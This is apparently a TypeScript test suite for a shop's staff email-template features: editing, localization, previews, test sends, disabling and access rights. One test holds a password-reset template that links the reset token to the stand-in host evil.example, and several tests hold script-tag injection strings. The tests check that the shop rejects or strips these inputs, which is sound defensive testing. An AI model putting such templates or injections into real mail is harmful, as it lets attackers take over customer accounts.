// Templates of mails, for staff: words by key and language, previews, tests, switches (storefront-api.md, AK).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { member, textOf } from '../platform/panel/staff.ts';
import type { Browser } from '../support/browser.ts';
import { type MailServer, mailWorker, openMailServer } from '../support/smtp-server.ts';
import { registered } from './customer-client.ts';
import { mailed } from './mailed-links.ts';
import { type OrderShop, openOrderShop } from './order-shop.ts';

let server: MailServer;
let shop: OrderShop;
let browser: Browser;
beforeAll(async () => {
  server = await openMailServer();
  shop = await openOrderShop({
    pins: {
      smtp_host: '127.0.0.1',
      smtp_port: String(server.port),
      smtp_secure: 'none',
      email_from_address: 'shop@shop.example',
      store_name: 'The Shop',
    },
  });
  ({ browser } = await member(shop.app));
});
afterAll(async () => {
  await shop.app.close();
  await server.close();
});

type Template = Record<string, unknown> & {
  placeholders: { name: string; required: boolean }[];
  subject: string;
  body_html: string;
};
const template = async (path: string, method = 'GET', body?: unknown): Promise<Template> =>
  (await shop.staff.data(`/email-templates${path}`, method, body)) as unknown as Template;
const arrived = async (address: string) => {
  await mailWorker(shop.app.ctx).idle();
  return server.to(address);
};
let buyers = 0;
const placed = async () => {
  buyers += 1;
  const email = `reader${buyers}@mail.example`;
  return { email, order: await shop.placed(await shop.stocked(5), 1, 'fake', { email }) };
};

it('refuses words that would send a link of the reader to another site, in what is saved and what is previewed', async () => {
  const body_html = '<p><a href="https://evil.example/?u={reset_url}">Choose a new password</a></p>';
  for (const [path, method] of [
    ['/email-templates/password_reset', 'PUT'],
    ['/email-templates/password_reset/preview', 'POST'],
  ] as const) {
    const { status, body } = await shop.staff.send(path, method, { subject: 'New password', body_html });
    expect([status, JSON.stringify(body)]).toEqual([400, expect.stringContaining('{reset_url}')]);
  }
  expect((await template('/password_reset')).is_changed).toBe(false);
});

describe('GET /api/store/email-templates', () => {
  it('lists every email with its words, its placeholders and whether it is sent', async () => {
    const list = (await template('')) as unknown as Template[];
    expect(list.map(({ key }) => key)).toEqual(
      expect.arrayContaining(['order_confirmation', 'password_reset', 'gift_card_delivery', 'admin_invite']),
    );
    expect(list.find(({ key }) => key === 'order_confirmation')).toMatchObject({
      locale: 'en',
      subject: 'Your order {order_number} at {store_name}',
      enabled: true,
      can_disable: true,
      is_changed: false,
      changed_locales: [],
      unknown_placeholders: [],
      missing_placeholders: [],
      updated_at: null,
    });
  });

  it('shows one in a language, and what is not there answers as it should', async () => {
    const german = await template('/order_confirmation?locale=de');
    expect([german.locale, german.is_fallback]).toEqual(['de', false]);
    expect(german.placeholders).toContainEqual({
      name: 'order_url',
      required: true,
      html: false,
      sample: 'https://shop.example/shop/order/abc',
    });
    expect(await shop.staff.refusal('/email-templates/nonsense', 'GET')).toEqual([
      404,
      'NOT_FOUND',
      undefined,
    ]);
    const [status, code] = await shop.staff.refusal('/email-templates/order_confirmation?locale=xx', 'GET');
    expect([status, code]).toEqual([400, 'VALIDATION_ERROR']);
  });
});

describe('PUT and reset', () => {
  const words = {
    subject: 'Order {order_number}: {nothing}',
    body_html: '<h1>Thanks, {customer_name}</h1><script>alert(1)</script><p>Total: {total}</p>',
  };

  it('changes words in one language, for every mail from then on, and puts them back', async () => {
    const changed = await template('/order_confirmation', 'PUT', words);
    expect(changed).toMatchObject({
      subject: words.subject,
      body_html: '<h1>Thanks, {customer_name}</h1><p>Total: {total}</p>',
      body_text: null,
      is_changed: true,
      changed_locales: ['en'],
      unknown_placeholders: ['nothing'],
      missing_placeholders: ['order_url'],
    });
    const { email, order } = await placed();
    const [mail] = await arrived(email);
    expect(mail?.subject).toBe(`Order ${order.order_number}: {nothing}`);
    expect(mail?.html).toContain('Thanks, ');
    expect(mail?.text).toContain('Total: $');
    expect(await template('/order_confirmation?locale=de')).toMatchObject({ is_changed: false });
    expect(await template('/order_confirmation/reset', 'POST')).toMatchObject({
      is_changed: false,
      subject: 'Your order {order_number} at {store_name}',
    });
    const again = await placed();
    expect((await arrived(again.email))[0]?.subject).toContain('at The Shop');
  });

  it('the audit log has the words before and after, and who changed them', async () => {
    const rows = await shop.app.ctx.db.knex('audit_log').where({ action: 'EMAIL_TEMPLATE_CHANGED' });
    const text = JSON.stringify(rows);
    expect(text).toContain('order_confirmation');
    expect(text).toContain('Thanks, {customer_name}');
  });

  it('refuses an empty body, words of script alone, another language and a missing field', async () => {
    for (const body of [
      { ...words, body_html: '<script>alert(1)</script>' },
      { ...words, subject: ' \n ' },
      { ...words, locale: 'xx' },
      { ...words, body_html: 'x'.repeat(100_001) },
    ]) {
      const [status, code] = await shop.staff.refusal('/email-templates/order_confirmation', 'PUT', body);
      expect([status, code]).toEqual([400, 'VALIDATION_ERROR']);
    }
    const [status, code] = await shop.staff.refusal('/email-templates/order_confirmation', 'PUT', {
      subject: 'x',
    });
    expect([status, code]).toEqual([400, 'VALIDATION_MISSING_FIELD']);
  });

  it('switches one off, which is then noted and not sent, and never one that somebody waits for', async () => {
    const { subject, body_html } = await template('/order_confirmation');
    await template('/order_confirmation', 'PUT', { subject, body_html, enabled: false });
    const { email } = await placed();
    expect(await arrived(email)).toEqual([]);
    const { data } = (await shop.staff.send(`/email-log?to=${email}`)).body as unknown as {
      data: Record<string, unknown>[];
    };
    expect(data[0]).toMatchObject({
      template: 'order_confirmation',
      status: 'suppressed',
      error: 'this kind of email is turned off in the settings',
    });
    await template('/order_confirmation', 'PUT', { subject, body_html, enabled: true });
    await template('/order_confirmation/reset', 'POST');
    const reset = await template('/password_reset');
    expect(reset.can_disable).toBe(false);
    expect(
      (
        await shop.staff.refusal('/email-templates/password_reset', 'PUT', {
          subject: reset.subject,
          body_html: reset.body_html,
          enabled: false,
        })
      )[0],
    ).toBe(400);
  });
});

describe('preview and test', () => {
  it('renders a sample, or what the mails of an order said, and words that nobody saved', async () => {
    const sample = await template('/order_confirmation/preview', 'POST');
    expect(sample.subject).toBe('Your order 1001 at The Shop');
    expect(sample.text).toContain('Stoneware mug');
    const { order, email } = await placed();
    const real = await template('/order_confirmation/preview', 'POST', { order_id: order.id });
    expect(real.subject).toBe(`Your order ${order.order_number} at The Shop`);
    const refund = await template('/refund_issued/preview', 'POST', { order_id: order.id });
    expect(refund.subject).toContain(String(order.order_number));
    const typed = await template('/order_confirmation/preview', 'POST', {
      order_id: order.id,
      subject: 'To {customer_email} {oops}',
      body_html: '<p>{total}</p>',
    });
    expect(typed).toMatchObject({
      subject: `To ${email} {oops}`,
      unknown_placeholders: ['oops'],
      missing_placeholders: ['order_url'],
    });
    expect(await template('/order_confirmation')).toMatchObject({ is_changed: false });
    expect(
      (
        await shop.staff.refusal('/email-templates/order_confirmation/preview', 'POST', { order_id: 'ord_x' })
      )[0],
    ).toBe(400);
  });

  it('shows an order to who may read orders, without the link that opens it, and nothing of other emails', async () => {
    const { order, email } = await placed();
    const real = await template('/order_confirmation/preview', 'POST', { order_id: order.id });
    const [{ order_url: link } = { order_url: '' }] = (
      await mailed(shop.app, email, 'order_confirmation')
    ).map(({ values }) => values);
    expect(link).toMatch(/^http/);
    expect(JSON.stringify(real)).not.toContain(link);
    const { id } = await registered(shop.app);
    const { key } = await shop.staff.data('/api-keys', 'POST', { name: 'words', scopes: ['settings:read'] });
    const path = '/email-templates/order_confirmation/preview';
    const byKey = (body: object) =>
      shop.app.send(`/api/store${path}`, {
        method: 'POST',
        body,
        headers: { Authorization: `Bearer ${key}` },
      });
    expect((await byKey({})).status).toBe(200);
    expect((await byKey({ order_id: order.id })).status).toBe(403);
    expect((await shop.staff.refusal(path, 'POST', { order_id: id }))[0]).toBe(400);
  });

  it('sends a sample to an address, by the queue', async () => {
    const { email_log_id: id } = await template('/shipment_notification/test', 'POST', {
      to: 'tester@mail.example',
      locale: 'de',
    });
    const [mail] = await arrived('tester@mail.example');
    expect(mail).toMatchObject({ text: expect.stringContaining('UPS') });
    expect(await shop.staff.data(`/email-log/${id}`)).toMatchObject({ status: 'sent', locale: 'de' });
    expect(
      (
        await shop.staff.refusal('/email-templates/shipment_notification/test', 'POST', {
          to: 'a@b.c, d@e.f',
        })
      )[0],
    ).toBe(400);
  });
});

describe('pages of the panel', () => {
  const path = '/store/settings/email-templates';

  it('edit, preview, test and reset the words of an email', async () => {
    const list = await browser.open(path);
    expect(textOf(list.text)).toContain('Order confirmation');
    const page = `${path}/refund_issued?lang=de`;
    expect((await browser.open(page)).status).toBe(200);
    const fields = {
      lang: 'de',
      subject: 'Geld {amount}',
      body_html: '<p>Hallo {customer_name}</p>',
      body_text: '',
      enabled: 'true',
      about: '',
    };
    const preview = await browser.submit(page, { ...fields, do: 'preview' });
    expect([preview.status, preview.text.includes('srcdoc=')]).toEqual([200, true]);
    expect(textOf(preview.text)).toContain('Geld $19.00');
    expect(preview.text).toContain('Geld {amount}');
    const saved = await browser.submit(page, { ...fields, do: 'save' });
    expect([saved.status, saved.headers.location]).toEqual([303, `${path}/refund_issued?lang=de&done=saved`]);
    expect(await template('/refund_issued?locale=de')).toMatchObject({
      subject: 'Geld {amount}',
      enabled: true,
    });
    const tested = await browser.submit(page, { lang: 'de', do: 'test', to: 'panel@mail.example' });
    expect(tested.status).toBe(303);
    expect((await arrived('panel@mail.example'))[0]?.subject).toBe('Geld $19.00');
    const refused = await browser.submit(page, { ...fields, body_html: '<style>x</style>', do: 'save' });
    expect(refused.status).toBe(400);
    const reset = await browser.submit(page, { lang: 'de', do: 'reset' });
    expect(reset.status).toBe(303);
    expect(await template('/refund_issued?locale=de')).toMatchObject({ is_changed: false });
  });

  it('show viewers the words without a way to change them', async () => {
    const viewer = await member(shop.app, ['settings:read']);
    const page = await viewer.browser.open(`${path}/refund_issued`);
    expect(page.status).toBe(200);
    expect(page.text).not.toContain('value="save"');
    const sent = await viewer.browser.submit(`${path}/refund_issued`, { lang: 'en', do: 'reset' });
    expect(sent.status).toBe(403);
  });
});
